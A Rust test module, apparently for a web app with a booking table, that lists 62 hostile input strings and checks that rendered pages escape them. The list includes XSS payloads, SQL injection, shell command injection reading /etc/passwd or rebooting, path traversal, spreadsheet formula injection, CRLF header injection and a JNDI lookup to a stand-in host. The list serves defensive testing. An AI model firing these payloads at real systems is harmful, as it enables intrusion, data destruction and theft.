//! Strings that try to be more than text, in every field that somebody can fill, on every page and
//! in every message.

mod messages;
mod pages;

/// What people paste: markup, templates of several languages, SQL, shells, spreadsheets, headers,
/// letters that turn or hide text, too much, almost nothing.
pub const HOSTILE: [&str; 62] = [
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "\"><script>hit()</script>",
    "'><img src=x onerror=hit()>",
    "</textarea><script>hit()</script>",
    "</title><script>hit()</script>",
    "</script><script>hit()</script>",
    "<!-- a",
    "--> a",
    "<b>bold",
    "</b></i></a> a",
    "&lt;script&gt;hit()",
    "&amp;amp; a",
    "&#60;b&#62; a",
    "<a href=\"javascript:hit()\">x</a>",
    "javascript:hit()",
    "\" onmouseover=\"hit()",
    "' autofocus onfocus='hit()",
    "`onload=hit()`",
    "<iframe srcdoc=\"<script>hit()\">",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<input name=csrf value=x>",
    "<meta http-equiv=refresh content=0>",
    "<tg-spoiler>a</tg-spoiler>",
    "<code>a</pre>",
    "<a href=\"tg://user?id=1\">x</a>",
    "{{7*7}} a",
    "{% raw %}",
    "${7*7} a",
    "<%= 7*7 %> a",
    "{ $name }",
    "{ \"\" } a",
    "'; DROP TABLE booking; --",
    "' OR '1'='1' a",
    "%' a --",
    "\\'; a --",
    "%_a",
    "$(reboot) `reboot`",
    "| cat /etc/passwd",
    "../../etc/passwd",
    "..\\..\\windows",
    "=cmd|'/C calc'!A0",
    "+SUM(a1)",
    "@everyone",
    "/start ref_a",
    "a\r\nSet-Cookie: b=c",
    "a\r\nBcc: evil@example.com",
    "a\0b",
    "a\u{202e}txt.exe",
    "a\u{200b}b",
    "👩‍👩‍👧‍👦 a",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}",
    "*a* _b_ [x](http://evil.example)",
    "```a``` ||b||",
    "${jndi:ldap://evil.example/a}",
    "<!DOCTYPE a [<!ENTITY b \"c\">]>",
    "https://evil.example/a?b=c&d=e",
    "null undefined NaN",
];

/// How a page shows a text: as askama escapes it.
fn shown(text: &str) -> String {
    let mut shown = String::new();
    for c in text.chars() {
        match c {
            '&' => shown += "&#38;",
            '<' => shown += "&#60;",
            '>' => shown += "&#62;",
            '"' => shown += "&#34;",
            '\'' => shown += "&#39;",
            c => shown.push(c),
        }
    }
    shown
}

/// Fails when a hostile string stands on the page as markup.
fn harmless(page: &str, path: &str) {
    for text in HOSTILE {
        let means_something = shown(text) != text;
        assert!(
            !(means_something && page.contains(text)),
            "{text:?} runs on {path}"
        );
    }
}

/// A number as a word: names have letters.
pub fn word(number: usize) -> String {
    let digits = number.to_string();
    let letters = digits.bytes().map(|digit| char::from(b'a' + digit - b'0'));
    letters.collect()
}
